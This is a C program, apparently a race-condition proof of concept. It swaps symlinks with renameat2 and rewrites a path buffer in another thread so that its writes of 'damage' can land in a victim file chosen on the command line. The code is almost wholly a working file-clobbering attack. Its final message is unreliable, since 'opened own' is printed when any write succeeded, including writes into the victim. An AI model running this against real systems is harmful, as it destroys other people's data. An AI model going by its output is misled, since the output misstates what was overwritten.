// cc: -pthread
/*
 * Opens a path for writing while another thread exchanges what it leads to, and while a third
 * rewrites the bytes of the path in memory.
 *
 *     flip_path VICTIM ROUNDS
 *
 * Says whether its own file was ever opened; writes into whatever it opened.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static atomic_int done;
static const char *victim;
static char path[4096];
static char own[4096];

static void *flip_link(void *unused)
{
	(void)unused;
	while (!done)
		syscall(SYS_renameat2, AT_FDCWD, "flip", AT_FDCWD, "other", RENAME_EXCHANGE);
	return NULL;
}

static void *flip_bytes(void *unused)
{
	(void)unused;
	while (!done) {
		memcpy(path, victim, strlen(victim) + 1);
		memcpy(path, own, strlen(own) + 1);
	}
	return NULL;
}

static int write_into(const char *name)
{
	int fd = open(name, O_WRONLY);

	if (fd < 0)
		return 0;
	int written = pwrite(fd, "damage\n", 7, 0) == 7;
	close(fd);
	return written;
}

int main(int argc, char **argv)
{
	pthread_t linker, writer;
	int rounds = argc == 3 ? atoi(argv[2]) : 0;
	int opened = 0;

	if (rounds <= 0) {
		fputs("usage: flip_path VICTIM ROUNDS\n", stderr);
		return 2;
	}
	victim = argv[1];
	if (!getcwd(own, sizeof own - 8))
		return 2;
	strcat(own, "/own");
	strcpy(path, own);
	if (close(open("own", O_WRONLY | O_CREAT, 0644)) || symlink("own", "flip") ||
	    symlink(victim, "other")) {
		perror("set up");
		return 2;
	}
	pthread_create(&linker, NULL, flip_link, NULL);
	pthread_create(&writer, NULL, flip_bytes, NULL);
	for (int i = 0; i < rounds; i++) {
		opened += write_into("flip");
		opened += write_into(path);
	}
	done = 1;
	pthread_join(linker, NULL);
	pthread_join(writer, NULL);
	puts(opened ? "opened own" : "opened nothing");
	return 0;
}
